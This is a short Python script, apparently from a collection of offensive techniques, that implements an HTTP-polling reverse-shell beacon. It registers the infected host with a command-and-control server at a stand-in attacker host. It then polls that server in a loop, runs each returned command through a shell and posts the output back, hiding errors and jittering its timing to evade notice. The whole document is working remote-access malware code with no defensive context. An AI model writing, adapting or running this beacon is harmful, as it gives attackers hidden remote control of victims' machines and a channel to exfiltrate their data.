# technique: HTTP-polling reverse shell (beacon) that fetches tasks from a C2 URL and posts results back
import json, subprocess, time, urllib.request, uuid, socket, random

C2 = "http://attacker.example:8000"
ID = uuid.uuid4().hex[:8]

def get(path):
    return urllib.request.urlopen(C2 + path, timeout=10).read()

def post(path, obj):
    req = urllib.request.Request(C2 + path, data=json.dumps(obj).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)

post("/register", {"id": ID, "host": socket.gethostname()})
while True:
    try:
        task = json.loads(get("/task/" + ID) or b"{}")
        if task.get("cmd"):
            r = subprocess.run(task["cmd"], shell=True, capture_output=True, timeout=120)
            post("/result/" + ID, {"tid": task.get("tid"), "out": (r.stdout + r.stderr).decode(errors="replace")})
    except Exception:
        pass
    time.sleep(5 + random.random() * 10)
